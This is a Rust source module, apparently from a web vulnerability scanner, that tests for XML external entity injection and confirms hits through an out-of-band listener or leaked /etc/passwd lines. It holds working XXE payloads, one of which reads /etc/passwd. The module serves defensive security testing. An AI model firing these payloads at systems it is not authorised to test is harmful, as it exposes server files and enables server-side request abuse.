//! XML external entity injection confirmed by the out-of-band listener or file signatures.

use crate::catalogue::{locs, module_id, OWASP_A05};
use crate::client::{SendError, Sent};
use crate::ctx::{Ctx, Hit};
use crate::finding::Confidence;
use crate::target::Body;
use crate::target::Resource;
use rampart_domain::catalogue::{AttackMeta, ModuleMeta};
use rampart_domain::{ModuleType, Severity};

pub(crate) const KEY: &str = "xxe";

pub(crate) fn meta() -> ModuleMeta {
    ModuleMeta {
        id: module_id(KEY),
        key: KEY,
        name: "XML External Entity Injection",
        description: "<p>The application parses XML with external entities enabled, so an attacker can read local files or make the server issue requests.</p>",
        recommendation: "Disable DTD processing and external entities in every XML parser.",
        module_type: ModuleType::Active,
        severity: Severity::High,
        cwe: 611,
        wasc: Some(43),
        owasp_2021: "A05:2021-Security Misconfiguration",
        cvss_vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
        parameter_locations: locs::QUERY_POST,
        references: &[
            ("CWE-611: Improper Restriction of XML External Entity Reference", "https://cwe.mitre.org/data/definitions/611.html"),
            ("OWASP XXE Prevention Cheat Sheet", "https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html"),
            OWASP_A05,
        ],
        attacks: &[
            AttackMeta {
                id: "XXE_01",
                kind: "External entity callback",
                class: "XML External Entities",
                description: "A document whose external entity points at the out-of-band listener.",
            },
            AttackMeta {
                id: "XXE_02",
                kind: "Local file entity",
                class: "XML External Entities",
                description: "A document whose external entity reads /etc/passwd, confirmed by its signature.",
            },
        ],
    }
}

fn documents(oob_url: Option<&str>) -> Vec<(&'static str, String)> {
    let mut v = vec![(
        "XXE_02",
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#
            .to_string(),
    )];
    if let Some(u) = oob_url {
        v.push((
            "XXE_01",
            format!(r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{u}">]><r>&x;</r>"#),
        ));
    }
    v
}

/// XML bodies sent to POST resources and XML-looking parameters.
pub(crate) async fn attack(ctx: &Ctx, r: &Resource, orig: &Sent) -> Result<(), SendError> {
    if r.method == "GET" || ctx.already(KEY, r, None).await {
        return Ok(());
    }
    let token = ctx.oob.as_ref().map(|o| o.token("x"));
    let points = ctx.points(KEY, r, Some(orig));
    for (attack_id, doc) in documents(token.as_ref().map(|t| t.1.as_str())) {
        let mut reqs = vec![{
            let mut raw = Resource {
                body: Body::None,
                ..r.clone()
            }
            .to_request();
            raw.set_header("Content-Type", "application/xml");
            raw.body = Some(doc.clone().into_bytes());
            (None, raw)
        }];
        for p in points.iter().filter(|p| {
            p.original.trim_start().starts_with('<') || p.name.to_ascii_lowercase().contains("xml")
        }) {
            reqs.push((Some(p.clone()), r.with_value(p, &doc)));
        }
        for (p, req) in reqs {
            let sent = ctx.send(req).await?;
            let mut proof = passwd_proof(&sent.response.text());
            if proof.is_none() && attack_id == "XXE_01" {
                if let (Some(oob), Some((t, _))) = (&ctx.oob, &token) {
                    match oob.callback(t) {
                        Some(c) => {
                            proof = Some(format!("callback from {}: {}", c.peer, c.request_line))
                        }
                        None => {
                            ctx.defer_oob(crate::ctx::PendingOob {
                                module: KEY,
                                attack_id,
                                token: t.clone(),
                                resource: r.clone(),
                                point: p.clone(),
                                value: doc.clone(),
                                attack: sent.clone(),
                            });
                        }
                    }
                }
            }
            if let Some(proof) = proof {
                ctx.report_point(
                    r,
                    p.as_ref(),
                    Hit {
                        module: KEY,
                        attack_id,
                        value: &doc,
                        proof,
                        proof_description: "the XML parser resolved an external entity",
                        confidence: Confidence::Confirmed,
                        original: Some(orig),
                        attack: Some(&sent),
                    },
                )
                .await;
                return Ok(());
            }
        }
    }
    Ok(())
}

static PASSWD: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
    regex::Regex::new(r"root:[^:\n]*:0:0:").unwrap_or_else(|_| unreachable!("literal regex"))
});

/// The /etc/passwd line an external entity pulled into `text`.
fn passwd_proof(text: &str) -> Option<String> {
    PASSWD.find(text).map(|m| m.as_str().to_string())
}

#[cfg(test)]
mod tests {
    #[test]
    fn examples() {
        let table: &[(&str, &str, bool)] = &[
            ("entity resolved in xml", "<result><name>root:x:0:0:root:/root:/bin/bash\nbin:x:1:1::/:/sbin/nologin</name></result>", true),
            ("busybox passwd", "root::0:0:root:/root:/bin/sh", true),
            ("entity not expanded", "<result><name>&amp;x;</name></result>", false),
            ("parser refused doctype", "<error>DOCTYPE is disallowed when the feature http://apache.org/xml/features/disallow-doctype-decl is set</error>", false),
            ("root: prose", "<p>root: the top of the tree, at 0:0 on the grid</p>", false),
        ];
        for (name, body, want) in table {
            assert_eq!(super::passwd_proof(body).is_some(), *want, "{name}");
        }
    }

    #[test]
    fn documents_declare_external_entities() {
        let docs = super::documents(Some("http://127.0.0.1:9/x/rmptoken"));
        assert_eq!(docs.len(), 2);
        assert!(docs[0].1.contains("SYSTEM \"file:///etc/passwd\""));
        assert!(docs[1]
            .1
            .contains("SYSTEM \"http://127.0.0.1:9/x/rmptoken\""));
        assert_eq!(super::documents(None).len(), 1);
    }
}
